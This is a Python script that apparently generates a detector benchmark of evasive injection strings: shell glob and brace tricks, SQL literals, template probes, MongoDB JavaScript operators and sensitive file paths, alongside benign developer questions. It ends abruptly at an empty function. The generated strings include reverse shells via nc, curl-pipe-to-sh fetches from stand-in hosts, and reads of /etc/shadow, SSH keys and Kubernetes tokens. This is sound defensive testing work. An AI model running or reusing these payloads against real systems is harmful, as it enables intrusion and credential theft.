"""Classic injections composed afresh, second set: the expansions, literals and readers the first set showed weak.

    .venv/bin/python benchmarks/threat/classic_fresh2.py [--count 120] [--seed 11] [--part tuning|validation|both]
                                                         [--show 5] [--family NAME] [--by-technique]

Written on 7 December (late) before any rule was changed for it, from each interpreter's documented grammar,
never from a payload collection: pathname expansion (`?`, `*`, bracket expressions and their character classes)
and the shell's separators, lists and compound commands from the POSIX Shell Command Language (XCU chapter 2);
brace expansion from the Bash manual; hex, bit and escaped string literals and the character functions (`CHAR`,
`CHR`, `NCHAR`, `UNHEX`, `DECODE`) from the MySQL, PostgreSQL, SQL Server and Oracle manuals; expression
delimiters and arithmetic of Jinja, Twig, Django, FreeMarker, Velocity, ERB/EJS, Smarty, Razor, Thymeleaf, Pug and
Mako from their documentation; MongoDB's JavaScript operators (`$where`, `$function`, `$accumulator`, `mapReduce`)
from its manual; sensitive files by absolute path from the file-system layouts of Linux (FHS, procfs), Windows and
Kubernetes (a service account's mounted token).

The same harness as `classic_fresh.py` (its `Family`, `Inner`, outer layers, split and report): within each family
techniques, inner evasions and outer layers are dealt to `tuning` and `validation` by a hash of their names, so a
validation line is a technique under an evasion and a layer the tuning part never shows. The `developers` family is
the ordinary half: developers' questions holding shell, SQL, templates, globs, brace lists and paths, split by
topic the same way; it must stay unflagged.
"""

from __future__ import annotations

import base64
import random
import sys
from pathlib import Path

sys.path[:0] = [str(Path(__file__).resolve().parents[2])]

from benchmarks.threat.classic_fresh import Family, Inner, Technique, main  # noqa: E402

# ---------------------------------------------------------------- shared pieces

# Where a value broken out of lands the command: after a value and a separator of the POSIX grammar.
_VALUES = ("127.0.0.1", "10.1.1.1", "example.org", "invoice.pdf", "42", "x", "", "me@example.org", "abc")
_SEPARATORS = (";", "|", "||", "&&", "&", "\n", "%0a", "%0d%0a")


def _lead(rng: random.Random) -> str:
    return rng.choice(_VALUES) + rng.choice(("", " ")) + rng.choice(_SEPARATORS) + rng.choice(("", " "))


# Programs found on every Linux system, by the absolute path the FHS gives them.
_PROGRAMS = ("/bin/cat", "/usr/bin/id", "/usr/bin/whoami", "/bin/uname", "/usr/bin/uname", "/bin/nc", "/usr/bin/wget",
             "/usr/bin/curl", "/bin/bash", "/bin/sh", "/usr/bin/env", "/bin/hostname", "/usr/bin/base64",
             "/bin/ls", "/usr/bin/python3", "/usr/bin/perl", "/bin/ps", "/usr/bin/nslookup")
# What they are given: files a shell injection reads, or a destination.
_ARGUMENTS = {"/bin/cat": ("/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/version", "/etc/issue"),
              "/bin/uname": ("-a", "-r", ""), "/usr/bin/uname": ("-a", "-r", ""), "/bin/nc": ("-e /bin/sh 10.0.0.8 9001",),
              "/usr/bin/wget": ("http://203.0.113.9/a -O /tmp/a",), "/usr/bin/curl": ("http://203.0.113.9/s",),
              "/bin/ls": ("-la /", "-al /root", "/home"), "/usr/bin/base64": ("/etc/shadow",),
              "/usr/bin/python3": ("-c 'import os;os.system(\"id\")'",), "/usr/bin/perl": ("-e 'exec \"/bin/sh\"'",),
              "/bin/ps": ("-ef", "aux"), "/usr/bin/nslookup": ("x.attacker.example",)}


def _program(rng: random.Random) -> tuple[str, str]:
    path = rng.choice(_PROGRAMS)
    return path, rng.choice(_ARGUMENTS.get(path, ("",)))


def _blur(rng: random.Random, path: str, share: float, mark: str) -> str:
    """`path` with about `share` of its letters replaced by `mark` (`?`, or `*` for a run), slashes kept."""
    out: list[str] = []
    for part in path.split("/"):
        if not part:
            out.append(part)
            continue
        if mark == "*":
            keep = rng.randint(1, max(1, len(part) - 1))
            out.append(part[:keep] + "*" if rng.random() < 0.5 else "*" + part[-keep:])
            continue
        letters = [c if not c.isalnum() or rng.random() > share else "?" for c in part]
        if "?" not in letters:
            letters[rng.randrange(len(letters))] = "?"
        out.append("".join(letters))
    return "/".join(out)


def _bracket(rng: random.Random, path: str) -> str:
    """One or two letters of `path` as bracket expressions that match them: `[c]`, `[b-d]`, `[!x]`."""
    chars = list(path)
    spots = [i for i, c in enumerate(chars) if c.isalpha()]
    for index in rng.sample(spots, min(len(spots), rng.randint(1, 3))):
        c = chars[index]
        chars[index] = rng.choice((f"[{c}]", f"[{chr(ord(c) - 1) if c > 'a' else c}-{chr(ord(c) + 1) if c < 'z' else c}]",
                                   f"[!{'q' if c != 'q' else 'z'}]", f"[{c}{rng.choice('xyz')}]"))
    return "".join(chars)


def _posix_class(rng: random.Random, path: str) -> str:
    chars = list(path)
    spots = [i for i, c in enumerate(chars) if c.isalpha()]
    for index in rng.sample(spots, min(len(spots), rng.randint(1, 2))):
        chars[index] = rng.choice(("[[:alpha:]]", "[[:lower:]]", "[[:alnum:]]", "[![:digit:]]"))
    return "".join(chars)


def _joined(rng: random.Random, e: Inner, words: list[str]) -> str:
    return e.sp(rng).join(word for word in words if word)


# ---------------------------------------------------------------- shell: pathname expansion

def glob_question(rng: random.Random, e: Inner) -> str:
    path, argument = _program(rng)
    blurred = [_blur(rng, path, 0.5, "?")] + [_blur(rng, a, 0.4, "?") if a.startswith("/") else a
                                              for a in argument.split(" ")]
    return _lead(rng) + _joined(rng, e, blurred)


def glob_star(rng: random.Random, e: Inner) -> str:
    path, argument = _program(rng)
    blurred = [_blur(rng, path, 0, "*")] + [_blur(rng, a, 0, "*") if a.startswith("/etc") else a
                                            for a in argument.split(" ")]
    return _lead(rng) + _joined(rng, e, blurred)


def glob_bracket(rng: random.Random, e: Inner) -> str:
    path, argument = _program(rng)
    return _lead(rng) + _joined(rng, e, [_bracket(rng, path), *argument.split(" ")])


def glob_class(rng: random.Random, e: Inner) -> str:
    path, argument = _program(rng)
    return _lead(rng) + _joined(rng, e, [_posix_class(rng, path), *argument.split(" ")])


def glob_mixed(rng: random.Random, e: Inner) -> str:
    path, argument = _program(rng)
    spelt = _bracket(rng, _blur(rng, path, 0.3, "?"))
    return _lead(rng) + _joined(rng, e, [spelt, *argument.split(" ")])


def glob_substituted(rng: random.Random, e: Inner) -> str:
    path, argument = _program(rng)
    spelt = _joined(rng, e, [_blur(rng, path, 0.5, "?"), *argument.split(" ")])
    return rng.choice(_VALUES) + rng.choice((f"$({spelt})", f"`{spelt}`", f"\"$({spelt})\""))


def glob_alone(rng: random.Random, e: Inner) -> str:
    """The whole value a program hands to `sh -c`: no separator needed."""
    path, argument = _program(rng)
    return _joined(rng, e, [_blur(rng, path, 0.6, "?"), *(_blur(rng, a, 0.5, "?") if a.startswith("/") else a
                                                           for a in argument.split(" "))])


def glob_arguments(rng: random.Random, e: Inner) -> str:
    """A plain program, its file spelt by a pattern."""
    program = rng.choice(("cat", "head", "tail -n 50", "base64", "more", "xxd", "od -c", "strings"))
    target = rng.choice(("/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "/proc/self/environ", "/etc/sudoers"))
    return _lead(rng) + _joined(rng, e, [*program.split(" "), _blur(rng, target, 0.45, rng.choice("?*"))])


GLOB = {"question": glob_question, "star": glob_star, "bracket": glob_bracket, "posix-class": glob_class,
        "mixed": glob_mixed, "substituted": glob_substituted, "alone": glob_alone, "arguments": glob_arguments}
SHELL_INNER = (
    Inner("plain"),
    Inner("tab", sp=lambda rng: "\t"),
    Inner("ifs", sp=lambda rng: rng.choice(("${IFS}", "$IFS$9", "${IFS%??}"))),
    Inner("double-space", sp=lambda rng: "  "),
    Inner("empty-quotes", sp=lambda rng: rng.choice(("'' ", ' "" '))),  # quotes the shell removes after expansion
)


# ---------------------------------------------------------------- shell: brace expansion

def _words(rng: random.Random) -> list[str]:
    return rng.choice((["cat", "/etc/passwd"], ["id"], ["whoami"], ["uname", "-a"], ["ls", "-la", "/"],
                       ["wget", "http://203.0.113.9/x", "-O", "/tmp/x"], ["curl", "-s", "http://x.example/a"],
                       ["nc", "-e", "/bin/sh", "10.0.0.8", "9001"], ["cat", "/etc/shadow"], ["hostname"],
                       ["ping", "-c", "5", "10.0.0.8"], ["sleep", "7"], ["env"], ["head", "/etc/passwd"]))


def _listed(words: list[str]) -> str:
    """`words` as a brace list: a list needs a comma to expand (`{id}` is a word of its own, `{id,}` is `id`)."""
    return "{" + ",".join(words) + ("," if len(words) == 1 else "") + "}"


def brace_after_separator(rng: random.Random, e: Inner) -> str:
    return _lead(rng) + _listed(_words(rng))


def brace_alone(rng: random.Random, e: Inner) -> str:
    return _listed(_words(rng))


def brace_trailing_comma(rng: random.Random, e: Inner) -> str:
    """`{id,}` expands to `id` alone: a list with an empty last item."""
    words = _words(rng)
    return _lead(rng) + "{" + ",".join(words) + ",}" if len(words) > 1 else _lead(rng) + "{" + words[0] + ",}"


def brace_substituted(rng: random.Random, e: Inner) -> str:
    body = _listed(_words(rng))
    return rng.choice(_VALUES) + rng.choice((f"$({body})", f"`{body}`"))


def brace_piped(rng: random.Random, e: Inner) -> str:
    url = rng.choice(("http://203.0.113.9/s", "x.example/a.sh", "http://evil.test/i"))
    fetch = rng.choice((f"{{curl,-s,{url}}}", f"{{wget,-qO-,{url}}}"))
    return _lead(rng) + fetch + rng.choice(("|{bash,}", "|{sh,}", "|bash", "|sh"))


def brace_globbed(rng: random.Random, e: Inner) -> str:
    words = _words(rng)
    return _lead(rng) + _listed([_blur(rng, w, 0.4, "?") if w.startswith("/") else w for w in words])


def brace_quoted(rng: random.Random, e: Inner) -> str:
    words = _words(rng)
    head = words[0]
    cut = rng.randint(1, max(1, len(head) - 1))
    words[0] = head[:cut] + rng.choice(("''", '""', "\\")) + head[cut:]
    return _lead(rng) + _listed(words)


def brace_sequence(rng: random.Random, e: Inner) -> str:
    """A list beside other words: `{cat,/etc/passwd}` is one word of a longer command line."""
    return _lead(rng) + rng.choice(("{cat,/etc/passwd}>/tmp/o", "{id,}>/var/www/html/o.txt", "{whoami,}&&{id,}",
                                    "{uname,-a};{id,}", "{ls,/root}|{nc,10.0.0.8,9001}"))


BRACE = {"after-separator": brace_after_separator, "alone": brace_alone, "trailing-comma": brace_trailing_comma,
         "substituted": brace_substituted, "piped": brace_piped, "globbed": brace_globbed, "quoted": brace_quoted,
         "beside": brace_sequence}
BRACE_INNER = (Inner("plain"), Inner("spaced-lead", sp=lambda rng: " "), Inner("tight", sp=lambda rng: ""),
               Inner("tab", sp=lambda rng: "\t"))


# ---------------------------------------------------------------- shell: separators, lists and compound commands

_COMMANDS = ("id", "whoami", "uname -a", "cat /etc/passwd", "hostname", "ifconfig", "netstat -an", "ps -ef",
             "ls -la /", "env", "getent passwd", "cat /proc/version", "pwd", "w", "ps aux", "sleep 9",
             "ping -c 9 127.0.0.1", "nslookup x.attacker.example", "curl http://203.0.113.9/a|sh", "who",
             "last", "lsb_release -a", "cat /etc/issue", "df -h", "crontab -l", "ip a")


def _command(rng: random.Random, e: Inner) -> str:
    return e.sp(rng).join(rng.choice(_COMMANDS).split(" "))


def bare_line_feed(rng: random.Random, e: Inner) -> str:
    return rng.choice(_VALUES) + rng.choice(("\n", "\r\n", "\n\n")) + _command(rng, e)


def bare_background(rng: random.Random, e: Inner) -> str:
    return rng.choice(_VALUES) + rng.choice((" & ", "&", " &")) + _command(rng, e) + rng.choice(("", " &", "&"))


def bare_leading(rng: random.Random, e: Inner) -> str:
    """Nothing before the separator: the value is the separator and the command."""
    return rng.choice((";", "|", "&", "&&", "||", "; ", "| ")) + _command(rng, e)


def bare_or_list(rng: random.Random, e: Inner) -> str:
    return rng.choice(("nothing", "x", "-", "''", "0")) + rng.choice((" || ", "||")) + _command(rng, e)


def bare_group(rng: random.Random, e: Inner) -> str:
    cmd = _command(rng, e)
    return _lead(rng) + rng.choice((f"({cmd})", f"{{ {cmd}; }}", f"( {cmd} )"))


def bare_process(rng: random.Random, e: Inner) -> str:
    cmd = _command(rng, e)
    return rng.choice(_VALUES) + rng.choice((f" <({cmd})", f";cat <({cmd})", f" >({cmd})"))


def bare_here_string(rng: random.Random, e: Inner) -> str:
    cmd = rng.choice(_COMMANDS)
    return _lead(rng) + rng.choice((f"sh<<<'{cmd}'", f"bash <<< \"{cmd}\"", f"sh <<<{cmd.split(' ')[0]}"))


def bare_negated(rng: random.Random, e: Inner) -> str:
    return _lead(rng) + rng.choice(("! ", "!", "time ", "exec ")) + _command(rng, e)


def bare_trailing(rng: random.Random, e: Inner) -> str:
    """A command after the separator and a comment (a word that starts with `#`) or a dangling quote the
    application's own closes."""
    return _lead(rng) + _command(rng, e) + rng.choice((" #", ";#", " ;#", " '", ' "', " #'"))


BARE = {"line-feed": bare_line_feed, "background": bare_background, "leading": bare_leading,
        "or-list": bare_or_list, "group": bare_group, "process": bare_process, "here-string": bare_here_string,
        "negated": bare_negated, "trailing": bare_trailing}
BARE_INNER = (Inner("plain"), Inner("tab", sp=lambda rng: "\t"), Inner("double-space", sp=lambda rng: "  "),
              Inner("ifs", sp=lambda rng: "${IFS}"))


# ---------------------------------------------------------------- SQL: strings spelt without quotes

_SQL_WORDS = ("admin", "root", "administrator", "sa", "secret", "users", "password", "dba")


def _ascii_codes(word: str) -> list[int]:
    return [ord(c) for c in word]


def lit_hex(rng: random.Random, e: Inner) -> str:
    return "0x" + rng.choice(_SQL_WORDS).encode().hex()


def lit_hex_string(rng: random.Random, e: Inner) -> str:
    word = rng.choice(_SQL_WORDS).encode().hex()
    return rng.choice((f"x'{word}'", f"X'{word}'", f"_utf8mb4 0x{word}", f"_binary 0x{word}"))


def lit_char_plus(rng: random.Random, e: Inner) -> str:
    """SQL Server: `CHAR(97)+CHAR(100)+...`."""
    word = rng.choice(_SQL_WORDS)
    fn = rng.choice(("char", "nchar"))
    return "+".join(f"{e.kw(rng, fn)}({code})" for code in _ascii_codes(word))


def lit_chr_pipes(rng: random.Random, e: Inner) -> str:
    """Oracle and PostgreSQL: `CHR(97)||CHR(100)||...`."""
    word = rng.choice(_SQL_WORDS)
    return "||".join(f"{e.kw(rng, 'chr')}({code})" for code in _ascii_codes(word))


def lit_char_list(rng: random.Random, e: Inner) -> str:
    """MySQL: `CHAR(97,100,109,...)`, optionally `USING utf8`."""
    word = rng.choice(_SQL_WORDS)
    using = rng.choice(("", " using utf8", " using ascii"))
    return f"{e.kw(rng, 'char')}({','.join(str(c) for c in _ascii_codes(word))}{using})"


def lit_concat_char(rng: random.Random, e: Inner) -> str:
    word = rng.choice(_SQL_WORDS)
    return f"{e.kw(rng, 'concat')}(" + ",".join(f"{e.kw(rng, 'char')}({c})" for c in _ascii_codes(word)) + ")"


def lit_decoded(rng: random.Random, e: Inner) -> str:
    hexed = rng.choice(_SQL_WORDS).encode().hex()
    return rng.choice((f"{e.kw(rng, 'unhex')}('{hexed}')", f"{e.kw(rng, 'decode')}('{hexed}','hex')",
                       f"{e.kw(rng, 'convert_from')}({e.kw(rng, 'decode')}('{hexed}','hex'),'utf8')",
                       f"{e.kw(rng, 'from_base64')}('{base64.b64encode(bytes.fromhex(hexed)).decode()}')"))


def lit_bits(rng: random.Random, e: Inner) -> str:
    word = rng.choice(("sa", "dba", "x", "ab"))
    bits = "".join(f"{b:08b}" for b in word.encode())
    return rng.choice((f"0b{bits}", f"b'{bits}'"))


LITERALS = {"hex": lit_hex, "hex-string": lit_hex_string, "char-plus": lit_char_plus, "chr-pipes": lit_chr_pipes,
            "char-list": lit_char_list, "concat-char": lit_concat_char, "decoded": lit_decoded, "bits": lit_bits}


def _sql_shape(rng: random.Random, e: Inner, spelt: str) -> str:
    """Where the spelt literal goes: a comparison after a value broken out of, a UNION column, a stacked EXEC."""
    s = e.sp
    n = rng.randint(1, 999)
    tail = rng.choice(("--" + s(rng), "#", "-- -", "", ";--", "/*"))
    column = rng.choice(("username", "user", "name", "login", "password", "table_name"))
    return rng.choice((
        f"{n}{s(rng)}{e.kw(rng, 'or')}{s(rng)}{column}={spelt}{s(rng)}{tail}",
        f"{n}'{s(rng)}{e.kw(rng, 'or')}{s(rng)}{column}={spelt}{tail}",
        f"-{n}{s(rng)}{e.kw(rng, 'union')}{s(rng)}{e.kw(rng, 'select')}{s(rng)}{spelt},2{tail}",
        f"{n}){s(rng)}{e.kw(rng, 'and')}{s(rng)}{column}{s(rng)}{e.kw(rng, 'like')}{s(rng)}{spelt}{tail}",
        f"x'{s(rng)}{e.kw(rng, 'and')}{s(rng)}1=({e.kw(rng, 'select')}{s(rng)}1{s(rng)}{e.kw(rng, 'from')}{s(rng)}"
        f"users{s(rng)}{e.kw(rng, 'where')}{s(rng)}name={spelt}){tail}",
        f"{n};{s(rng)}{e.kw(rng, 'declare')}{s(rng)}@q{s(rng)}varchar(99)={spelt};{e.kw(rng, 'exec')}(@q)",
    ))


def _literal_technique(name: str) -> Technique:
    spell = LITERALS[name]
    return lambda rng, e: _sql_shape(rng, e, spell(rng, e))


SQL_LITERALS = {name: _literal_technique(name) for name in LITERALS}
SQL_INNER = (
    Inner("plain"),
    Inner("upper", kw=lambda rng, w: w.upper()),
    Inner("comment-gap", sp=lambda rng: rng.choice(("/**/", "/*x*/"))),
    Inner("line-comment-gap", sp=lambda rng: rng.choice(("--\n", "#\n", "-- x\n"))),  # a comment ended by its line
    Inner("control-gap", sp=lambda rng: rng.choice(("\t", "\n", "\r", "\x0b"))),
    Inner("case", kw=lambda rng, w: "".join(c.upper() if rng.random() < 0.5 else c for c in w)),
)


# ---------------------------------------------------------------- template expressions

def _ab(rng: random.Random) -> tuple[int, int]:
    return rng.randint(2, 99), rng.randint(2, 99)


def _op(rng: random.Random) -> str:
    return rng.choice(("*", "*", "+", "-", "/", "%"))


def tpl_curly(rng: random.Random, e: Inner) -> str:
    """Jinja, Twig, Nunjucks, Tornado, AngularJS, Handlebars-like `{{ }}`."""
    a, b = _ab(rng)
    s = e.sp(rng)
    return rng.choice((f"{{{{{s}{a}{_op(rng)}{b}{s}}}}}", f"{{{{{s}({a}+{b})*{b}{s}}}}}", f"{{{{{s}{a}**{b % 5 + 2}{s}}}}}",
                       f"{{{{{s}'{a}'*{b % 9 + 2}{s}}}}}", f"{{{{{s}{a}~{b}{s}}}}}", f"{{{{{s}-{a}*{b}{s}}}}}"))


def tpl_dollar(rng: random.Random, e: Inner) -> str:
    """FreeMarker, Mako, JSP EL, Spring EL, JavaScript template literals `${ }`."""
    a, b = _ab(rng)
    s = e.sp(rng)
    return rng.choice((f"${{{s}{a}{_op(rng)}{b}{s}}}", f"${{{s}({a}+{b})*{b}{s}}}", f"${{{s}{a}.{b}*{b}{s}}}",
                       f"${{{s}\"{a}\"?length*{b}{s}}}", f"${{{s}{a}{_op(rng)}{b}{s}}}px"))


def tpl_hash(rng: random.Random, e: Inner) -> str:
    """Pug and Ruby interpolation, JSF deferred EL `#{ }`."""
    a, b = _ab(rng)
    s = e.sp(rng)
    return rng.choice((f"#{{{s}{a}{_op(rng)}{b}{s}}}", f"#{{{s}({a}-{b})*{a}{s}}}", f"p #{{{a}*{b}}}"))


def tpl_tags(rng: random.Random, e: Inner) -> str:
    """ERB and EJS tags `<%= %>`, `<%- %>`; ASP `<%= %>`."""
    a, b = _ab(rng)
    s = e.sp(rng)
    return rng.choice((f"<%={s}{a}{_op(rng)}{b}{s}%>", f"<%-{s}{a}{_op(rng)}{b}{s}%>", f"<%{s}={a}*{b}{s}%>",
                       f"<%{s}print({a}*{b}){s}%>"))


def tpl_smarty(rng: random.Random, e: Inner) -> str:
    a, b = _ab(rng)
    s = e.sp(rng)
    return rng.choice((f"{{math{s}equation=\"x*y\"{s}x={a}{s}y={b}}}", f"{{${a}*{b}}}",
                       f"{{assign{s}var=x{s}value={a}*{b}}}{{$x}}", f"{{{a}*{b}}}{{*x*}}"))


def tpl_velocity(rng: random.Random, e: Inner) -> str:
    a, b = _ab(rng)
    s = e.sp(rng)
    return rng.choice((f"#set({s}$x{s}={s}{a}{_op(rng)}{b}{s})$x", f"#set($a={a})#set($b=$a*{b})${{b}}",
                       f"#evaluate(\"#set($x={a}*{b})\")$x"))


def tpl_inline(rng: random.Random, e: Inner) -> str:
    """Thymeleaf inlining and preprocessing: `[[${..}]]`, `[(${..})]`, `__${..}__`, `*{..}`."""
    a, b = _ab(rng)
    s = e.sp(rng)
    return rng.choice((f"[[${{{s}{a}{_op(rng)}{b}{s}}}]]", f"[(${{{s}{a}*{b}{s}}})]", f"__${{{s}{a}*{b}{s}}}__",
                       f"*{{{s}{a}*{b}{s}}}", f"[[{s}{a}*{b}{s}]]"))


def tpl_razor(rng: random.Random, e: Inner) -> str:
    a, b = _ab(rng)
    s = e.sp(rng)
    return rng.choice((f"@({s}{a}{_op(rng)}{b}{s})", f"@{{{s}var x={a}*{b};{s}}}@x", f"@Html.Raw({a}*{b})"))


def tpl_filters(rng: random.Random, e: Inner) -> str:
    """Arithmetic by filters: Django's `add`, Jinja's `sum`, Twig's `abs` on a computed value."""
    a, b = _ab(rng)
    s = e.sp(rng)
    return rng.choice((f"{{{{{s}{a}|add:{b}{s}}}}}", f"{{{{{s}[{a},{b}]|sum{s}}}}}", f"{{{{{s}({a}*{b})|abs{s}}}}}",
                       f"{{% widthratio {a} 1 {b} %}}", f"{{{{{s}range({a})|length*{b}{s}}}}}"))


TEMPLATE = {"curly": tpl_curly, "dollar": tpl_dollar, "hash": tpl_hash, "tags": tpl_tags, "smarty": tpl_smarty,
            "velocity": tpl_velocity, "inline": tpl_inline, "razor": tpl_razor, "filters": tpl_filters}
TEMPLATE_INNER = (Inner("spaced", sp=lambda rng: " "), Inner("tight", sp=lambda rng: ""),
                  Inner("padded", sp=lambda rng: rng.choice(("  ", "\t"))), Inner("newline", sp=lambda rng: "\n"))


# ---------------------------------------------------------------- MongoDB JavaScript

def _js_test(rng: random.Random) -> str:
    return rng.choice(("this.password.length > 0", "this.role == 'admin'", "this.username.match(/^a/)",
                       "true", "1 == 1", "sleep(5000) || true", "this.isAdmin", "Object.keys(this).length > 2",
                       "this.token != null", "hex_md5(this.password) != ''"))


def mongo_where_string(rng: random.Random, e: Inner) -> str:
    s = e.sp(rng)
    return f'{{{s}"$where":{s}"{_js_test(rng)}"{s}}}'


def mongo_where_function(rng: random.Random, e: Inner) -> str:
    s = e.sp(rng)
    return f'{{{s}"$where":{s}"function(){s}{{{s}return {_js_test(rng)};{s}}}"{s}}}'


def mongo_where_form(rng: random.Random, e: Inner) -> str:
    field = rng.choice(("user", "filter", "q", "search", "login"))
    return rng.choice((f"{field}[$where]={_js_test(rng)}", f"{field}%5B%24where%5D={_js_test(rng)}",
                       f"?{field}[$where]=return%20true"))


def mongo_where_shell(rng: random.Random, e: Inner) -> str:
    """The mongo shell's own object syntax: unquoted keys."""
    s = e.sp(rng)
    return rng.choice((f"{{{s}$where:{s}'{_js_test(rng)}'{s}}}", f"db.users.find({{{s}$where:{s}\"{_js_test(rng)}\"{s}}})"))


def mongo_function(rng: random.Random, e: Inner) -> str:
    s = e.sp(rng)
    return (f'{{"$expr":{s}{{"$function":{s}{{"body":{s}"function(){{return {_js_test(rng)}}}",{s}"args":{s}[],{s}'
            f'"lang":{s}"js"}}}}}}')


def mongo_accumulator(rng: random.Random, e: Inner) -> str:
    s = e.sp(rng)
    return (f'{{"$group":{{"_id":null,"x":{{"$accumulator":{{"init":{s}"function(){{return {_js_test(rng)}}}",'
            f'"accumulate":"function(s){{return s}}","accumulateArgs":[],"merge":"function(a){{return a}}","lang":"js"}}}}}}}}')


def mongo_map_reduce(rng: random.Random, e: Inner) -> str:
    s = e.sp(rng)
    return rng.choice((f"db.users.mapReduce(function(){s}{{emit(this.username,{s}this.password)}},{s}function(k,v){{return v}})",
                       '{"mapReduce":"users","map":"function(){emit(1,this.password)}","reduce":"function(k,v){return v}"}'))


def mongo_breakout(rng: random.Random, e: Inner) -> str:
    """A value that closes the string it was put in inside a `$where` expression."""
    s = e.sp(rng)
    return rng.choice((f"x'{s}||{s}{_js_test(rng)}{s}||{s}'", f"\"{s}||{s}{_js_test(rng)}{s}||{s}\"",
                       f"admin'{s}&&{s}{_js_test(rng)}{s}&&{s}'1'=='1", f"';{s}return{s}{_js_test(rng)};{s}//"))


MONGO = {"where-string": mongo_where_string, "where-function": mongo_where_function, "where-form": mongo_where_form,
         "where-shell": mongo_where_shell, "function": mongo_function, "accumulator": mongo_accumulator,
         "map-reduce": mongo_map_reduce, "breakout": mongo_breakout}
MONGO_INNER = (Inner("plain"), Inner("spaced", sp=lambda rng: " "), Inner("newline", sp=lambda rng: "\n"),
               Inner("tab", sp=lambda rng: "\t"))


# ---------------------------------------------------------------- sensitive files by absolute path

_FILES = {
    "system": ("/etc/shadow", "/etc/passwd", "/etc/sudoers", "/etc/gshadow", "/etc/security/opasswd",
               "/etc/master.passwd", "/etc/ssh/ssh_host_rsa_key"),
    "proc": ("/proc/self/environ", "/proc/self/cmdline", "/proc/1/environ", "/proc/self/fd/3", "/proc/self/maps",
             "/proc/self/cwd/app.py", "/proc/self/root/etc/shadow"),
    "keys": ("/root/.ssh/id_rsa", "/home/ubuntu/.ssh/id_ed25519", "/root/.bash_history", "/root/.aws/credentials",
             "/home/deploy/.ssh/authorized_keys", "/root/.docker/config.json", "/home/app/.git-credentials"),
    "container": ("/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets/kubernetes.io/serviceaccount/token",
                  "/var/run/docker.sock", "/etc/kubernetes/admin.conf", "/var/lib/kubelet/kubeconfig"),
    "windows": ("C:\\Windows\\System32\\config\\SAM", "C:/Windows/win.ini", "c:\\boot.ini",
                "C:\\inetpub\\wwwroot\\web.config", "C:\\Windows\\repair\\SAM", "C:\\Windows\\Panther\\Unattend.xml",
                "C:\\Windows\\System32\\config\\SYSTEM"),
    "web": ("/var/www/html/wp-config.php", "/var/www/.env", "/srv/app/.env", "/var/www/html/config.php",
            "/usr/share/nginx/html/.htpasswd", "/opt/app/config/database.yml"),
    "logs": ("/var/log/auth.log", "/var/log/apache2/access.log", "/var/log/nginx/access.log", "/var/log/secure",
             "/var/log/httpd/error_log"),
}


def _path_context(rng: random.Random, path: str) -> str:
    return rng.choice((path, path, f"file={path}", f"?page={path}", f'{{"path": "{path}"}}', f"{path}%00.jpg",
                       f"template={path}", f"download?name={path}"))


def _path_technique(kind: str) -> Technique:
    def technique(rng: random.Random, e: Inner) -> str:
        return _path_context(rng, e.kw(rng, rng.choice(_FILES[kind])))
    return technique


def path_file_uri(rng: random.Random, e: Inner) -> str:
    path = e.kw(rng, rng.choice(_FILES["system"] + _FILES["proc"] + _FILES["keys"]))
    return _path_context(rng, rng.choice((f"file://{path}", f"file://localhost{path}", f"FILE://{path}")))


def path_unc(rng: random.Random, e: Inner) -> str:
    path = rng.choice(_FILES["windows"])[2:].replace("/", "\\")
    return _path_context(rng, e.kw(rng, rng.choice((f"\\\\127.0.0.1\\c${path}", f"\\\\localhost\\C${path}",
                                                    f"\\\\?\\C:{path}", f"\\\\.\\C:{path}"))))


PATHS = {**{kind: _path_technique(kind) for kind in _FILES}, "file-uri": path_file_uri, "unc": path_unc}


def _dot_segments(rng: random.Random, path: str) -> str:
    slash = "\\" if "\\" in path else "/"
    parts = path.split(slash)
    at = rng.randint(1, max(1, len(parts) - 1))
    return slash.join(parts[:at] + ["."] + parts[at:])


PATH_INNER = (
    Inner("plain"),
    Inner("doubled-slashes", kw=lambda rng, p: p.replace("/", "//").replace("\\", "\\\\")),
    Inner("dot-segment", kw=_dot_segments),
    Inner("trailing", kw=lambda rng, p: p + rng.choice(("/.", "%20", "?", "#"))),
    Inner("backslashes", kw=lambda rng, p: p.replace("/", "\\") if not p.startswith("file:") else p),
    Inner("upper", kw=lambda rng, p: p.upper()),
)


# ---------------------------------------------------------------- ordinary: developers' questions

def _pick(rng: random.Random, *options: str) -> str:
    return rng.choice(options)


def dev_variables(rng: random.Random, e: Inner) -> str:
    name, value = rng.choice(("a", "x", "count", "n", "name", "dir")), rng.randint(0, 99)
    return _pick(rng, f"{name}={value}; echo ${name} prints nothing in my script, why?",
                 f"Why does {name}={value}; echo ${name} work in bash but not in sh?",
                 f"In zsh, {name}={value}; echo ${{{name}}} gives an empty line, what am I missing?",
                 f"is there a difference between {name}=$({_pick(rng, 'date', 'pwd', 'whoami')}) and backticks?",
                 f"for f in *.{_pick(rng, 'txt', 'csv', 'log')}; do echo $f; done only prints the pattern when no file matches",
                 f"I wrote export {name.upper()}={value} && ./run.sh but the script doesn't see it")


def dev_globs(rng: random.Random, e: Inner) -> str:
    ext = _pick(rng, "py", "txt", "log", "js", "md", "tmp")
    return _pick(rng, f"how do I delete every *.{ext} file except the newest one?",
                 "ls /usr/bin/py* shows three pythons, which one does python3 point to?",
                 "Why does rm -rf build/* leave the hidden files behind?",
                 f"what does ? mean in a shell glob like file?.{ext}",
                 "cp report.{md,bak} is a neat trick, how does the brace list work?",
                 "mkdir -p src/{lib,test,docs} made three folders, can I nest them?",
                 f"In bash, echo {{1..{rng.randint(3, 20)}}} counts, but sh prints it as is",
                 f"find . -name '*.{ext}' -mtime +7 -delete is that safe to put in cron?",
                 f"gitignore: does logs/*.{ext} also ignore logs/old/a.{ext}?")


def dev_sql(rng: random.Random, e: Inner) -> str:
    n = rng.randint(1, 200)
    return _pick(rng, f"In MySQL SELECT CHAR({64 + n % 26}) returns a letter, how do I get the code back?",
                 f"How do I store 0x{n:02X} in a BINARY(1) column in MySQL?",
                 "Why does WHERE id = 0x10 match the row with id 16?",
                 "postgres: chr(10) || 'x' gives a newline before x, is there a nicer way?",
                 f"UPDATE users SET full_name = CONCAT(first_name, ' ', last_name) WHERE id = {n}; is slow",
                 f"SELECT name FROM products WHERE price > {n} -- is this index used?",
                 "How do I write a comment in a .sql file, -- or # ?",
                 "In SQL Server, is CHAR(13)+CHAR(10) the right way to add a line break to a string?",
                 f"select count(*) from orders where status = 'paid' and total > {n} returns 0, why?",
                 "What does UNHEX('4142') do compared with X'4142'?")


def dev_templates(rng: random.Random, e: Inner) -> str:
